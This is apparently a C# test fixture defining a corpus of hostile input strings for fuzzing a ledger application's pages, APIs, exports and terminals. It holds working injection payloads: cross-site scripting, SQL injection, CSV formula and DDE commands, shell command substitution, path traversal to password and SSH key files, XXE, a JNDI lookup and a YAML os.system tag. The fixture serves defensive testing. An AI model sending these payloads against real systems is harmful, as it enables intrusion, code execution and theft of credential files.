using System.Text;

namespace ProposalLedger.Testing.Hostile;

/// <summary>A text that somebody may send who means no good, or who has pasted from anywhere.</summary>
/// <param name="Name">What is wrong with it.</param>
/// <param name="Text">UTF-16, and not always well-formed.</param>
public sealed record HostileText(string Name, string Text)
{
    /// <summary>Each byte as <c>%XX</c>, so that it reaches the server as it is; half a surrogate pair as the three bytes that no UTF-8 has.</summary>
    public string Percent { get; } = string.Concat(Bytes(Text).Select(b => $"%{b:X2}"));

    /// <summary>A JSON string of it, escaped; half a surrogate pair stays one.</summary>
    public string Json => $"\"{string.Concat(Text.Select(c => c is >= ' ' and <= '~' and not ('"' or '\\') ? c.ToString() : $"\\u{(int)c:x4}"))}\"";

    public override string ToString() => Name;

    private static IEnumerable<byte> Bytes(string text)
    {
        for (var i = 0; i < text.Length; i++)
        {
            var pair = char.IsHighSurrogate(text[i]) && i + 1 < text.Length && char.IsLowSurrogate(text[i + 1]);
            if (char.IsSurrogate(text[i]) && !pair)
            {
                foreach (var b in (byte[])[(byte)(0xE0 | (text[i] >> 12)), (byte)(0x80 | ((text[i] >> 6) & 0x3F)), (byte)(0x80 | (text[i] & 0x3F))]) yield return b;
                continue;
            }

            foreach (var b in Encoding.UTF8.GetBytes(text.Substring(i, pair ? 2 : 1))) yield return b;
            if (pair) i++;
        }
    }
}

/// <summary>The corpus: one list, thrown at every address, body, subscription, import, export, page and terminal.</summary>
public static class HostileTexts
{
    /// <summary>The name of a function that a test page defines: whoever calls it has run a script that came as text.</summary>
    public const string Canary = "hostileCanary";

    private const string Run = Canary + "(1)";

    public static IReadOnlyList<HostileText> All { get; } =
    [
        // Nothing, and what looks like it.
        new("empty", ""), new("space", " "), new("no-break space", "\u00a0"), new("ideographic space", "\u3000"), new("zero-width space", "\u200b"), new("byte order mark", "\ufeff"),
        new("mongolian vowel separator", "\u180e"), new("hangul filler", "\u3164"), new("braille blank", "\u2800"), new("tag characters", "\U000e0041\U000e0042\U000e007f"),
        new("word joiner", "\u2060"), new("soft hyphens", "so\u00adft\u00adly"),

        // Control.
        new("nul", "\0"), new("nul within", "before\0after"), new("all of C0", string.Concat(Enumerable.Range(1, 31).Select(c => (char)c))), new("delete", "\u007f"),
        new("all of C1", string.Concat(Enumerable.Range(0x80, 32).Select(c => (char)c))), new("carriage return", "one\rtwo"), new("line feeds", "one\n\n\ntwo"), new("crlf header", "x\r\nSet-Cookie: hostile=1\r\n\r\n<p>"),
        new("line separator", "one\u2028two\u2029three"), new("form feed and vertical tab", "a\fb\vc"), new("backspaces", "harmless\b\b\b\b\b\b\b\bharmful"), new("bell", "ring\a"), new("next line", "a\u0085b"),
        new("end of file", "a\u001ab\u0004"), new("record separator", "a\u001eb"),

        // What no UTF-16 and no Unicode has.
        new("high surrogate", "\ud83d"), new("low surrogate", "\udca9"), new("surrogates swapped", "\udca9\ud83d"), new("surrogate at the end", "text\ud800"), new("surrogate before a letter", "\udbffa"),
        new("noncharacters", "\ufffe\uffff\ufdd0"), new("noncharacter of a far plane", "\U0010ffff"), new("private use", "\ue000\U000f0000"), new("replacement character", "\ufffd"), new("unassigned", "\u0378\U000dffff"),

        // Direction.
        new("override to the right", "\u202etxet desrever"), new("override never closed", "\u202e\u202d\u202e\u202d"), new("embedding never closed", "\u202b\u202a abc"), new("isolate never closed", "\u2067\u2068 abc"), new("pop without push", "\u202c\u2069 abc"),
        new("isolates nested deep", new string('\u2067', 130) + "deep"), new("arabic", "الميناء مفتوح"), new("hebrew with numbers", "סעיף 12 מתוך 28 (12-13)"), new("mixed with brackets", "abc (אבג) [123] <د>"), new("syriac and thaana", "ܐܒܓ ދިވެހި"), new("spoofed file name", "plan\u202efdp.exe"),
        new("trojan source", "text\u202e \u2066// hidden\u2069 \u2066"), new("right-to-left mark", "\u200f\u200e\u061c"),

        // Look-alikes.
        new("cyrillic for latin", "раураl"), new("greek for latin", "Αdmіn"), new("full width", "ｎｏｒｔｈ"), new("mathematical letters", "𝓷𝓸𝓻𝓽𝓱"), new("turkish i", "İıiI"), new("sharp s", "ẞßss"), new("ligature", "ﬁﬂﷺ"), new("kelvin", "\u212a\u00c5\u212b"), new("long s", "ſ"), new("roman numerals", "ⅫⅯ"), new("superscript digits", "¹²³"), new("arabic digits", "٢٠٢٥"), new("devanagari digits", "२०२५-११"),

        // Combining.
        new("composed and decomposed", "\u00e9e\u0301"), new("combining alone", "\u0301"), new("combining flood", "Z" + string.Concat(Enumerable.Repeat("\u0301\u0316\u0489\u20dd", 400))), new("tall stack", string.Concat("text".Select(c => c + new string('\u030d', 60)))), new("variation selectors", "a\ufe0f\ufe0e\U000e0100"),
        new("thai vowels", "กิ่ิ่ิ่ิ่ิ่ิ่ิ่ิ่ิ่"), new("devanagari cluster", "क्ष्म्य्र्व्"), new("hangul jamo", "\u1112\u1161\u11ab\u1100\u1173\u11af"), new("one glyph of kilobytes", "a" + new string('\u0300', 4000)),

        // Emoji.
        new("emoji", "😀💩🇺🇦🇷🇺"), new("family", "👩‍👩‍👧‍👦👨🏿‍🦽"), new("flag halves", "🇺 🇦🇦"), new("keycaps", "1️⃣#️⃣*️⃣"), new("tag flag", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"), new("joiners alone", "\u200d\u200d\u200d"), new("skin without hand", "🏿"), new("emoji flood", string.Concat(Enumerable.Repeat("👩🏿‍❤️‍💋‍👩🏻", 120))),

        // Script, in every place that a page has.
        new("script element", $"<script>{Run}</script>"), new("closing script", $"</script><script>{Run}</script>"), new("image", $"<img src=x onerror={Run}>"), new("attribute, double", $"\" autofocus onfocus=\"{Run}\" x=\""), new("attribute, single", $"' onmouseover='{Run}' x='"), new("attribute, bare", $"x onpointerenter={Run}"), new("backtick", $"`onload={Run}`"),
        new("javascript address", $"javascript:{Run}"), new("javascript address, spelt out", $"jAvA\tscript&colon;{Run}"), new("javascript address after control", $"\u0001javascript:{Run}"), new("vbscript address", "vbscript:msgbox(1)"), new("data address", $"data:text/html,<script>{Run}</script>"), new("web address with markup", $"https://x.example/\"><svg/onload={Run}>"), new("web address with a quote", "https://x.example/'onclick='x"),
        new("svg", $"<svg><animate onbegin={Run} attributeName=x dur=1s></svg>"), new("svg script", $"<svg><script href=\"data:,{Run}\"/></svg>"), new("svg use", "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>"), new("foreign object", $"<svg><foreignObject><iframe srcdoc=\"<script>parent.{Run}</script>\"></foreignObject></svg>"), new("math", $"<math><a xlink:href=\"javascript:{Run}\">x</a></math>"),
        new("style element", "<style>*{display:none!important}</style>"), new("style attribute", "<p style=\"position:fixed;inset:0;z-index:99999\">over all"), new("css expression", $"x:expression({Run})"), new("css import", "@import 'https://x.example/a.css';"), new("css escape", "\\3c script\\3e"), new("css url", "url(https://x.example/?q)"),
        new("iframe", $"<iframe srcdoc='<script>parent.{Run}</script>'>"), new("object", "<object data=//x.example/a.swf>"), new("base", "<base href=//x.example/>"), new("meta refresh", "<meta http-equiv=refresh content='0;url=//x.example'>"), new("form", "<form action=//x.example><button>Go"), new("link", "<link rel=stylesheet href=//x.example>"), new("template", $"<template><script>{Run}</script></template>"), new("noscript", $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">"), new("comment", $"<!--><img src=x onerror={Run}>-->"), new("cdata", $"<![CDATA[><img src=x onerror={Run}>]]>"), new("processing instruction", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]><x>&y;</x>"), new("textarea", $"</textarea></title></style></main><img src=x onerror={Run}>"), new("entities", "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp &notit;"), new("details", $"<details open ontoggle={Run}>"), new("plaintext", "<plaintext>"), new("unclosed", "<a href=\"x"), new("mutation", $"<noembed><svg><style><img title=\"</style><img src=x onerror={Run}>\">"), new("dom clobbering", "<form id=main name=document><input name=body>"), new("custom element", "<x-a is=y contenteditable>"),
        new("template engine, braces", "{{constructor.constructor('" + Run + "')()}}"), new("template engine, dollar", "${7*7}#{7*7}"), new("template engine, percent", "<%= 7*7 %>{% x %}"), new("razor", "@(7*7) @DateTime.Now @{ }"), new("prototype", "__proto__"), new("constructor", "constructor"), new("json in script", "</script>\u2028{\"__proto__\":{\"x\":1}}"), new("speculation", "<script type=speculationrules>{}</script>"), new("import map", "<script type=importmap>{}</script>"),

        // Other languages.
        new("sql quote", "' OR '1'='1"), new("sql comment", "1; DROP TABLE mt_events;--"), new("sql dollar", "$$; select pg_sleep(20); $$"), new("sql union", "' UNION SELECT secret FROM pl_tokens --"), new("sql backslash", "\\'; select 1; --"), new("sql sleep", "1'||pg_sleep(20)||'"), new("like wildcards", "%_%%%__\\"), new("tsquery", "a & | ! ( ) <-> :* 'b"), new("json path", "$.a[*]?(@.b==1)"), new("sql parameter", ":p0 @p0 $1 ?"),
        new("csv formula =", "=cmd|' /C calc'!A0"), new("csv formula +", "+1+cmd|' /C calc'!A0"), new("csv formula -", "-2+3"), new("csv formula @", "@SUM(1+1)*cmd|' /C calc'!A0"), new("csv formula tab", "\t=1+1"), new("csv formula return", "\r=1+1"), new("csv formula newline", "\n=1+1"), new("csv formula full width", "＝1+1"), new("csv quote", "\"a\",\"b\"\r\n=1+1"), new("csv apostrophe", "'=1+1"), new("csv semicolons", "a;b\\;c\\\\;"), new("csv hyperlink", "=HYPERLINK(\"https://x.example/?\"&A1)"), new("dde", "=DDE(\"x\";\"y\";\"z\")"),
        new("ansi colour", "\u001b[31mred\u001b[0m"), new("ansi clear", "\u001b[2J\u001b[H"), new("ansi C1", "\u009b31mred"), new("osc title", "\u001b]0;owned\u0007"), new("osc clipboard", "\u001b]52;c;aGk=\u001b\\"), new("osc link", "\u001b]8;;https://x.example\u001b\\here\u001b]8;;\u001b\\"), new("device control", "\u001bP$q\"p\u001b\\"), new("terminal report", "\u001b[6n\u001b[c\u0005"), new("spectre markup", "[red]x[/] [[ ]] [link=https://x.example]y[/] [unclosed"),
        new("path up", "../../../../etc/passwd"), new("path up, windows", "..\\..\\..\\windows\\win.ini"), new("path absolute", "/etc/shadow"), new("path unc", "\\\\x.example\\share"), new("path with nul", "../../etc/passwd\0.yaml"), new("path dot", "."), new("path dots", ".."), new("path many slashes", "////x////"), new("path device", "CON"), new("path file address", "file:///etc/passwd"), new("path home", "~root/.ssh/id_rsa"), new("path encoded twice", "%252e%252e%252f"), new("path encoded", "%2e%2e%2f"), new("path semicolon", "x;jsessionid=1"),
        new("shell", "$(id) `id` ; id | id && id > /tmp/x"), new("format, C", "%s%s%s%n%x%99999999d"), new("format, .NET", "{0}{1:D99999999}{{}}"), new("format, python", "{0.__class__}%(x)s"), new("format, log", "{Method} {Path} {@x} ${jndi:ldap://x.example/a}"), new("ldap", "*)(uid=*))(|(uid=*"), new("xpath", "' or count(//*)>0 or '"), new("regex", "(a+)+$ [ ( * ? \\"), new("regex fodder", new string('a', 3000) + "!"), new("regex dates", "2025-" + new string('X', 3000)),

        // YAML, JSON and their numbers.
        new("yaml document", "---\na: b\n..."), new("yaml anchor", "&a [*a]"), new("yaml merge", "<<: *a"), new("yaml tag", "!!python/object/apply:os.system ['id']"), new("yaml tag, .NET", "!<!System.Diagnostics.Process> {}"), new("yaml directive", "%YAML 1.1"), new("yaml flow", "{a: [b, {c: d}"), new("yaml block", "|\n  text\n"), new("yaml colon", "a: b: c"), new("yaml hash", "a #b"), new("yaml question", "? a\n: b"), new("yaml norway", "no"), new("yaml null", "~"), new("yaml octal", "0o17 017"), new("yaml sexagesimal", "190:20:30"), new("yaml date", "2025-11-20"), new("yaml bool", "Yes"), new("yaml infinity", ".inf"), new("yaml indicator", "- - - ? :"), new("yaml quotes", "'\"'\\\"''"), new("yaml tab", "a:\tb"),
        new("huge exponent", "1e131071"), new("not a number", "NaN"), new("infinity", "-Infinity"), new("negative zero", "-0.0"), new("zero", "0"), new("minus one", "-1"), new("2^31", "2147483648"), new("2^53 and one", "9007199254740993"), new("2^63", "9223372036854775808"), new("2^64", "18446744073709551616"), new("a thousand digits", new string('9', 1000)), new("fraction of many digits", "0." + new string('1', 400)), new("hexadecimal", "0x7fffffff"), new("plus", "+1"), new("leading zeros", "0000001"), new("thousands", "1,000"), new("space before", " 1"), new("exponent", "1e2"), new("word null", "null"), new("word true", "true"), new("word undefined", "undefined"), new("json object", "{\"a\":1}"), new("json array", "[[[[[[]]]]]]"),

        // Dates.
        new("date of February 30", "2025-02-30"), new("date in year 0", "0000-01-01"), new("date before Christ", "-0044-03-15"), new("date beyond four digits", "Y-170000002"), new("date of year 9999", "9999-12-31T23:59:59Z"), new("date, offset out of range", "2025-01-01T00:00:00+99:99"), new("date at the edge", "0001-01-01T00:00:00+14:00"), new("date, leap second", "2016-12-31T23:59:60Z"), new("date, hour 24", "2025-01-01T24:00:00Z"), new("date, month 13", "2025-13"), new("date, all unknown", "XXXX-XX-XX"), new("date, unknown digits in the middle", "2X25-X1-1X"), new("date, season", "2025-24"), new("date, season out of range", "2025-41"), new("date, open", "../.."), new("date, backwards", "2025-12/2025-11"), new("date, three halves", "2025/2026/2027"), new("date, set", "[2025-01-01..2025-02,2026]"), new("date, qualified inside", "2025-?11-~20"), new("date, both qualified", "2025~?%"), new("date, exponent", "Y17E8"), new("date, significant", "1950S2"), new("date, week", "2025-W10"), new("date, ordinal", "2025-365"), new("date, space", "2025-11-20 10:00:00"), new("date, line feed", "2025-11-20\n"), new("date, slashes", new string('/', 5000)), new("date, long interval", "0001/9998"), new("date, today", "today"),

        // Ids and references.
        new("id, reserved", "api"), new("id, upper case", "North"), new("id, 64 long", new string('a', 64)), new("id, 65 long", new string('a', 65)), new("id, hyphen first", "-north"), new("id, underscore", "nor_th"), new("id, with point", "plan/first/1"), new("id, dots", "first.1"), new("id, deep", "a/b/c/d/e/f/g"), new("id, dot only", "first."), new("id, of a stream", "negotiation:river"), new("id, line feed at its end", "north\n"), new("id, comma", "plan/first,plan/first"), new("id, many commas", new string(',', 3000)), new("id, percent", "%6eorth"), new("id, plus", "nor+th"),

        // Cursors, tags, tokens.
        new("cursor, no base64", "!!!!"), new("cursor, empty object", "e30"), new("cursor, padded", "bm9ydGg="), new("cursor of invalid utf-8", "_____w"), new("cursor of a nul", "AA"), new("cursor, long", new string('A', 6000)), new("entity tag", "\"3\""), new("entity tag, weak", "W/\"3\""), new("entity tag, open", "\"3"), new("bearer", "Bearer ledger_x"), new("token-like", "ledger_" + new string('A', 43)),

        // Length.
        new("16 KiB", new string('x', 16 * 1024)), new("16 KiB and one", new string('x', (16 * 1024) + 1)), new("16 KiB of four-byte characters", string.Concat(Enumerable.Repeat("𠀀", 4096))), new("one long word", string.Concat(Enumerable.Repeat("Unbrokenstretchoftext", 700))), new("many lines", string.Concat(Enumerable.Repeat("line\n", 3000))), new("many spaces", "a" + new string(' ', 10_000) + "b"), new("many words", string.Concat(Enumerable.Repeat("word ", 3000))), new("many hyphens", new string('-', 8000)), new("many no-break spaces", string.Concat(Enumerable.Repeat("wide\u00a0", 2000))), new("many tabs", "a" + new string('\t', 2000) + "b"),
    ];

    /// <summary>What the rules let a text hold: it is stored, and has to be shown for ever after.</summary>
    public static IReadOnlyList<HostileText> Storable { get; } =
    [
        .. All.Where(hostile => Encoding.UTF8.GetByteCount(hostile.Text) <= 16 * 1024 && !hostile.Text.Any(c => char.IsControl(c) && c is not ('\n' or '\t'))
            && hostile.Text.EnumerateRunes().All(rune => (rune.Value & 0xFFFE) != 0xFFFE && rune.Value is not (>= 0xFDD0 and <= 0xFDEF)) && IsWellFormed(hostile.Text)
            && !hostile.Text.EnumerateRunes().All(rune => Rune.IsWhiteSpace(rune) || Rune.GetUnicodeCategory(rune) == System.Globalization.UnicodeCategory.Format)),
    ];

    private static bool IsWellFormed(string text)
    {
        for (var rest = text.AsSpan(); !rest.IsEmpty;)
        {
            if (Rune.DecodeFromUtf16(rest, out _, out var used) != System.Buffers.OperationStatus.Done) return false;
            rest = rest[used..];
        }

        return true;
    }
}
